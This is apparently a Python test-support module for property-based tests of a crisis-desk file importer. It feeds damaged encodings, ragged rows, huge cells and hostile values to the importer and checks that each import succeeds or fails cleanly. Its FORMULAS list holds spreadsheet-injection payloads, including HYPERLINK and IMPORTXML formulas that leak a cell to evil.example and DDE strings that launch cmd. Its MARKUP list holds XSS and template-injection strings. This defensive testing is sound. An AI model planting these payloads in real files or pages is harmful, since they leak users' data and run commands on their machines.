"""What every importer must survive, shared by the property tests in this folder.

A file chosen by a user can hold anything: another program's export in another encoding, a
spreadsheet's formula cells, a paste of a web page, a 1 MB cell, a truncated download. Whatever
it holds, an import ends in one of two ways a user can act on: it succeeds whole, or it raises
the project's `UserError` (one sentence; for a bad row, the line and the reason) and leaves the
desk exactly as it was: every table's row count and the audit log unchanged.

One desk serves a whole test module (creating one costs a key derivation), so the checks compare
counts before and after each example instead of starting from an empty desk.
"""

from __future__ import annotations

import codecs
import csv
import io
import itertools
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import pytest
from hypothesis import HealthCheck, currently_in_test_context, event, settings
from hypothesis import strategies as st

from crisisdesk.domain.errors import ImportRejected, UserError
from crisisdesk.services import desk as desk_service
from crisisdesk.services.session import Session
from tests.support.desk import FAST_KDF, PASSPHRASE

T = TypeVar("T")

# Small, fixed example counts: the folder runs in well under a minute in `make test`, and
# derandomize makes every run try the same inputs, so CI never fails on a lucky draw. For a
# long bug hunt, CRISISDESK_PROPERTY_EXAMPLES=1000 multiplies the counts and draws new inputs.
_HUNT = int(os.environ.get("CRISISDESK_PROPERTY_EXAMPLES", "0"))
IMPORTS = settings(max_examples=_HUNT or 60, deadline=None, derandomize=not _HUNT,
                   database=None,
                   suppress_health_check=[HealthCheck.function_scoped_fixture,
                                          HealthCheck.too_slow, HealthCheck.data_too_large,
                                          HealthCheck.large_base_example])
FEW = settings(IMPORTS, max_examples=max(15, _HUNT // 4))

LONGEST_MESSAGE = 600  # a refusal quotes a cell, not a 1 MB cell

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/c notepad'!'A1'",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert('x')>",
    "<b>bold</b> &amp; <i>co</i>",
    "{{ 7*7 }} {% if x %}",
    "]]><!-- -->",
)
LITERALS = FORMULAS + MARKUP
# 1 MB (beyond the CSV reader's field limit), and 100 kB cells that a CSV reader does accept.
BIG_CELLS = ("A" * 1_000_000, "5" * 100_000, "<b>x</b>" * 12_500, "=" + "A1&" * 33_000)
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1",
             "mac_roman", "utf-32")


def cells(usual: st.SearchStrategy[str] | None = None,
          odd: int = 25) -> st.SearchStrategy[str]:
    """One cell: mostly `usual` values (so many files import and the rows get checked), else,
    about `odd` times in a hundred, any text (NUL, quotes, new lines, delimiters included), a
    formula or markup."""
    hostile = st.one_of(
        st.text(st.characters(), max_size=24),
        st.sampled_from(LITERALS),
        st.sampled_from(('"', '"unbalanced', 'a"b', "\x00", "\r", ";", "\t", "|", "'=1+1", " ",
                         "\ufeff", "\u2028", "")),
    )
    if usual is None:
        return hostile
    return st.tuples(st.integers(1, 100), usual, hostile).map(
        lambda t: t[2] if t[0] <= odd else t[1])


@st.composite
def tables(draw: st.DrawFn, headers: st.SearchStrategy[str],
           cell: st.SearchStrategy[str], *, first: st.SearchStrategy[str] | None = None,
           max_rows: int = 6, huge_header: bool = True) -> list[list[str]]:
    """A header row (usually starting with `first`; repeats allowed) and rows; sometimes rows
    with fewer or more cells than the header, sometimes one huge cell (in the header too,
    unless not `huge_header`), sometimes no rows."""
    header = draw(st.lists(st.one_of(headers, headers, headers, cells()), min_size=1,
                           max_size=6))
    if first is not None and chance(draw, 80):
        header[0] = draw(first)
    width = len(header)
    ragged = chance(draw, 25)
    lengths = (st.integers(min_value=max(0, width - 2), max_value=width + 2) if ragged
               else st.just(width))
    rows = draw(st.lists(lengths.flatmap(lambda n: st.lists(cell, min_size=n, max_size=n)),
                         max_size=max_rows))
    table = [header, *rows]
    top = 0 if huge_header else 1
    if chance(draw, 15) and len(table) > top:
        r = draw(st.integers(top, len(table) - 1))
        if table[r]:
            table[r][draw(st.integers(0, len(table[r]) - 1))] = draw(st.sampled_from(BIG_CELLS))
    return table


def chance(draw: st.DrawFn, percent: int) -> bool:
    """True about `percent` times in a hundred (hypothesis favours 0 in small ranges)."""
    return draw(st.integers(1, 100)) <= percent


QUOTED = st.sampled_from((True, True, True, False))  # mostly as a CSV writer quotes


def csv_text(table: list[list[str]], delimiter: str, quoted: bool) -> str:
    """The table as CSV: properly quoted, or cells joined as they are (stray quotes stay)."""
    if quoted:
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(table)
        return out.getvalue()
    return "".join(delimiter.join(row) + "\n" for row in table)


@st.composite
def encoded(draw: st.DrawFn, text: str) -> bytes:
    """`text` in some encoding (unencodable characters replaced), sometimes damaged: NUL bytes
    dropped in, cut short, or bytes flipped."""
    encoding = draw(st.sampled_from(("utf-8",) * len(ENCODINGS) + ENCODINGS))  # half UTF-8
    data = text.encode(encoding, errors="replace")
    damage = draw(st.sampled_from(("none", "none", "none", "nul", "cut", "flip")))
    at = len(data) * draw(st.integers(0, 999)) // 1000  # a share: lengths vary with serials
    if damage == "nul":
        data = data[:at] + b"\x00" * draw(st.integers(1, 3)) + data[at:]
    elif damage == "cut":
        data = data[:at]
    elif damage == "flip" and data:
        data = data[:at] + bytes([draw(st.integers(0, 255))]) + data[at + 1:]
    return data


def write_xlsx(path: Path, table: list[list[str]], formulas: bool) -> Path:
    """`table` as the first sheet of a workbook. Cells starting with "=" are formulas (with no
    cached value, as openpyxl writes them) or, without `formulas`, text typed with a quote."""
    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    wb = openpyxl.Workbook()
    ws = wb.active
    for r, row in enumerate(table, start=1):
        for c, value in enumerate(row, start=1):
            cell = ws.cell(r, c, ILLEGAL_CHARACTERS_RE.sub("", value))
            if not formulas and cell.data_type == "f":
                cell.data_type = "s"
    wb.save(path)
    return path


def any_bytes() -> st.SearchStrategy[bytes]:
    """Bytes that are no text format at all, or that merely start like one."""
    prefix = st.sampled_from((b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE,
                              b"PK\x03\x04", b"BEGIN:VCARD\r\n", b"+++\n", b"\x00\x00"))
    return st.tuples(prefix, st.binary(max_size=300)).map(lambda t: t[0] + t[1])


def physical_lines(data: bytes) -> int:
    """How many lines a text editor could show for `data`, whatever its encoding (a generous
    upper bound for the line a refusal may name)."""
    return data.count(b"\n") + data.count(b"\r") + 1


# -- the desk ---------------------------------------------------------------------------------

def module_desk(tmp_path_factory: pytest.TempPathFactory, name: str) -> Iterator[Session]:
    """A desk for a whole test module (the cheap KDF, as in tests/conftest.py)."""
    data_dir = tmp_path_factory.mktemp(name) / "desk"
    result = desk_service.init_desk(data_dir, org="Riverside Clinics", operator="alex",
                                    passphrase=PASSPHRASE, kdf=FAST_KDF)
    yield result.session
    result.session.close()


class Files:
    """Writes each example's input to a fresh file name (no example sees another's file)."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self._n = itertools.count()

    def write(self, data: bytes, suffix: str, stem: str = "list") -> Path:
        path = self.folder / f"{stem}-{next(self._n)}{suffix}"
        path.write_bytes(data)
        return path

    def write_csv(self, data: st.DataObject, table: list[list[str]], delimiter: str,
                  quoted: bool, stem: str = "list") -> tuple[Path, int]:
        """The table as CSV in some encoding, sometimes damaged (`encoded`), written to a fresh
        file; returns its path and the last line a refusal may name."""
        raw = data.draw(encoded(csv_text(table, delimiter, quoted)))
        return self.write(raw, ".csv", stem), physical_lines(raw)


def counts(session: Session) -> dict[str, int]:
    """Rows in every table of the desk (the audit log included)."""
    return {name: int(session.db.execute(f"SELECT count(*) FROM [{name}]").fetchone()[0])
            for name in session.db.table_names()}


def audit_entries(session: Session) -> int:
    return int(session.db.execute("SELECT count(*) FROM audit").fetchone()[0])


def attempt(session: Session, run: Callable[[], T], *, last_line: int) -> T | UserError:
    """Run one import. Anything but success or a UserError fails the test (a traceback); a
    refusal must leave every count as it was and explain itself (see `check_refusal`)."""
    before = counts(session)
    try:
        result = run()
    except UserError as err:
        refused: UserError | None = err
    else:
        refused = None
    if refused is not None:
        assert counts(session) == before, f"a refused import changed the desk: {refused}"
        check_refusal(refused, last_line)
        _event(f"refused: {type(refused).__name__}: {str(refused)[:70]}")
        return refused
    _event("imported")
    return result


def _event(text: str) -> None:
    """Tally the outcome (shown with --hypothesis-show-statistics) when inside @given."""
    if currently_in_test_context():
        event(text)


def check_refusal(err: UserError, last_line: int) -> None:
    """One short sentence; a refusal about rows names a real line of the file and a reason."""
    message = str(err)
    assert message.strip(), "a refusal with no reason"
    assert "\n" not in message, f"a refusal of several lines: {message!r}"
    assert "\r" not in message, f"a refusal of several lines: {message!r}"
    assert len(message) <= LONGEST_MESSAGE, f"a refusal quoting a whole cell: {message[:200]!r}"
    if isinstance(err, ImportRejected):
        assert err.problems, "ImportRejected without a problem"
        for problem in err.problems:
            assert 1 <= problem.line <= last_line, f"{problem} is not a line of the file"
            assert problem.reason.strip(), f"line {problem.line} refused without a reason"
            assert len(problem.reason) <= LONGEST_MESSAGE, (
                f"line {problem.line}: the reason quotes a whole cell")
        assert f"line {err.problems[0].line}" in message, message


def encodable(text: str) -> bool:
    return not any(0xD800 <= ord(c) <= 0xDFFF for c in text)


def one_of_each(values: tuple[Any, ...]) -> st.SearchStrategy[list[Any]]:
    return st.lists(st.sampled_from(values), min_size=1, max_size=len(values), unique=True)
